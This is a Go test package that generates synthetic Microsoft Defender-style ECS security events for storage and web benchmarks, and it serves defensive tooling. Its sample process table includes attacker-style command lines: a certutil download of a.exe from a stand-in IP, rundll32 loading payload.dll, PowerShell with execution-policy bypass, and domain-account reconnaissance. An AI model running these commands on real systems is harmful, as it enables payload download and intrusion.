// Package storetest generates synthetic ECS documents shaped like the
// normalizer's output, for store and web tests and benchmarks: varied hosts,
// users, processes, files, network peers and timestamps.
package storetest

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"time"
)

// Gen produces documents deterministically from a seed.
type Gen struct {
	rng  *rand.Rand
	From time.Time
	Span time.Duration
	// Step, when set, makes timestamps increase by Step per document (as a
	// live feed does) instead of spreading them at random over Span.
	Step time.Duration
	n    int
	raw  []byte
}

// New returns a generator of documents with timestamps spread uniformly over
// [from, from+span).
func New(seed uint64, from time.Time, span time.Duration) *Gen {
	return &Gen{rng: rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15)), From: from, Span: span}
}

var (
	processes = []struct{ name, parent, cmd string }{
		{"cmd.exe", "explorer.exe", `cmd.exe /c whoami /all`},
		{"powershell.exe", "cmd.exe", `powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Users\Public\run.ps1`},
		{"MpCmdRun.exe", "MsMpEng.exe", `"MpCmdRun.exe" Scan -ScheduleJob -RestrictPrivileges -DailyScan -ScanTrigger 54`},
		{"svchost.exe", "services.exe", `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`},
		{"rundll32.exe", "winword.exe", `rundll32.exe C:\Users\Public\payload.dll,DllRegisterServer`},
		{"chrome.exe", "explorer.exe", `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer`},
		{"net.exe", "cmd.exe", `net.exe user administrator /domain`},
		{"certutil.exe", "cmd.exe", `certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe`},
	}
	datasets = []struct{ dataset, category, cat, action string }{
		{"device_process_events", "AdvancedHunting-DeviceProcessEvents", "process", "ProcessCreated"},
		{"device_network_events", "AdvancedHunting-DeviceNetworkEvents", "network", "ConnectionSuccess"},
		{"device_file_events", "AdvancedHunting-DeviceFileEvents", "file", "FileCreated"},
		{"device_registry_events", "AdvancedHunting-DeviceRegistryEvents", "registry", "RegistryValueSet"},
		{"email_events", "AdvancedHunting-EmailEvents", "email", "Delivered"},
		{"alert_evidence", "AdvancedHunting-AlertEvidence", "threat", "Alert"},
	}
	users   = []string{"alice", "bob", "carol", "dave", "system", "svc_backup", "administrator", "erin"}
	domains = []string{"CONTOSO", "FABRIKAM", "NT AUTHORITY"}
	files   = []string{"report.docx", "invoice.pdf", "run.ps1", "payload.dll", "a.exe", "notes.txt", "setup.msi"}
	urls    = []string{"https://login.microsoftonline.com/", "http://203.0.113.7/a.exe", "https://contoso.sharepoint.com/sites/hr", "https://example.org/index.html"}
)

// Hosts is the number of distinct host names ("ws0001" ...).
const Hosts = 500

// Next returns the next document: the ECS JSON (message holds a raw record)
// and its timestamp.
func (g *Gen) Next() ([]byte, time.Time) {
	r := g.rng
	g.n++
	ts := g.From.Add(time.Duration(r.Int64N(int64(g.Span)))).UTC().Truncate(time.Microsecond)
	if g.Step > 0 {
		ts = g.From.Add(time.Duration(g.n) * g.Step).UTC()
	}
	ds := datasets[r.IntN(len(datasets))]
	p := processes[r.IntN(len(processes))]
	host := fmt.Sprintf("ws%04d", r.IntN(Hosts))
	hostID := fmt.Sprintf("%040x", r.Uint64()%Hosts)
	user := users[r.IntN(len(users))]
	domain := domains[r.IntN(len(domains))]
	file := files[r.IntN(len(files))]
	sha := fmt.Sprintf("%016x%016x%016x%016x", r.Uint64(), r.Uint64(), r.Uint64(), r.Uint64())
	srcIP := fmt.Sprintf("10.%d.%d.%d", r.IntN(4), r.IntN(256), r.IntN(254)+1)
	dstIP := fmt.Sprintf("203.0.113.%d", r.IntN(254)+1)
	port := []int{443, 80, 445, 3389, 53, 8080, 22, 135}[r.IntN(8)]
	url := urls[r.IntN(len(urls))]
	reportID := r.IntN(1_000_000)

	tsText := ts.Format(time.RFC3339Nano)
	// Built with appends rather than encoding/json: the large benchmark
	// generates ten million of these.
	raw := g.raw[:0]
	raw = append(raw, `{"time":`...)
	raw = appendString(raw, tsText)
	raw = append(raw, `,"tenantId":"11111111-1111-1111-1111-111111111111","operationName":"Publish","category":`...)
	raw = appendString(raw, ds.category)
	raw = append(raw, `,"properties":{"Timestamp":`...)
	raw = appendString(raw, tsText)
	raw = appendKV(raw, "DeviceName", host)
	raw = appendKV(raw, "DeviceId", hostID)
	raw = appendKV(raw, "ActionType", ds.action)
	raw = appendKV(raw, "FileName", p.name)
	raw = appendKV(raw, "ProcessCommandLine", p.cmd)
	raw = appendKV(raw, "InitiatingProcessFileName", p.parent)
	raw = appendKV(raw, "AccountName", user)
	raw = appendKV(raw, "AccountDomain", domain)
	raw = appendKV(raw, "SHA256", sha)
	raw = appendKV(raw, "LocalIP", srcIP)
	raw = appendKV(raw, "RemoteIP", dstIP)
	raw = append(raw, `,"RemotePort":`...)
	raw = strconv.AppendInt(raw, int64(port), 10)
	raw = appendKV(raw, "RemoteUrl", url)
	raw = append(raw, `,"ReportId":`...)
	raw = strconv.AppendInt(raw, int64(reportID), 10)
	raw = append(raw, "}}"...)
	g.raw = raw

	b := make([]byte, 0, 2048)
	b = append(b, `{"@timestamp":`...)
	b = appendString(b, tsText)
	b = append(b, `,"action":{"name":"Publish","type":`...)
	b = appendString(b, ds.action)
	b = append(b, `},"destination":{"ip":`...)
	b = appendString(b, dstIP)
	b = append(b, `,"port":`...)
	b = strconv.AppendInt(b, int64(port), 10)
	b = append(b, `},"event":{"category":[`...)
	b = appendString(b, ds.cat)
	b = append(b, `],"dataset":`...)
	b = appendString(b, ds.dataset)
	b = append(b, `,"type":["info"]},"file":{"hash":{"sha256":`...)
	b = appendString(b, sha)
	b = append(b, `},"name":`...)
	b = appendString(b, file)
	b = append(b, `},"host":{"id":`...)
	b = appendString(b, hostID)
	b = append(b, `,"name":`...)
	b = appendString(b, host)
	b = append(b, `,"os":{"type":"windows"}},"message":`...)
	b = appendString(b, string(raw))
	b = append(b, `,"microsoft":{"defender":{`...)
	if ds.cat == "threat" {
		b = append(b, `"alert":{"id":`...)
		b = appendString(b, fmt.Sprintf("da%012d", r.IntN(1_000_000)))
		b = append(b, `},`...)
	}
	b = append(b, `"report":{"id":`...)
	b = appendString(b, strconv.Itoa(reportID))
	b = append(b, `}}},"process":{"command_line":`...)
	b = appendString(b, p.cmd)
	b = append(b, `,"name":`...)
	b = appendString(b, p.name)
	b = append(b, `,"parent":{"name":`...)
	b = appendString(b, p.parent)
	b = append(b, `,"pid":`...)
	b = strconv.AppendInt(b, int64(500+r.IntN(1000)), 10)
	b = append(b, `},"pid":`...)
	b = strconv.AppendInt(b, int64(1000+r.IntN(60000)), 10)
	b = append(b, `}`...)
	switch ds.cat {
	case "registry":
		b = append(b, `,"registry":{"key":`...)
		b = appendString(b, `HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`)
		b = append(b, `}`...)
	case "email":
		b = append(b, `,"email":{"from":{"address":`...)
		b = appendString(b, user+"@contoso.com")
		b = append(b, `}}`...)
	}
	b = append(b, `,"source":{"ip":`...)
	b = appendString(b, srcIP)
	b = append(b, `},"url":{"original":`...)
	b = appendString(b, url)
	b = append(b, `},"user":{"domain":`...)
	b = appendString(b, domain)
	b = append(b, `,"name":`...)
	b = appendString(b, user)
	b = append(b, `}}`...)
	return b, ts
}

func appendKV(b []byte, k, v string) []byte {
	b = append(b, ',', '"')
	b = append(b, k...)
	b = append(b, '"', ':')
	return appendString(b, v)
}

// appendString appends v as a JSON string.
func appendString(b []byte, v string) []byte {
	const hex = "0123456789abcdef"
	b = append(b, '"')
	for i := 0; i < len(v); i++ {
		c := v[i]
		switch {
		case c == '"' || c == '\\':
			b = append(b, '\\', c)
		case c < 0x20:
			b = append(b, '\\', 'u', '0', '0', hex[c>>4], hex[c&15])
		default:
			b = append(b, c)
		}
	}
	return append(b, '"')
}
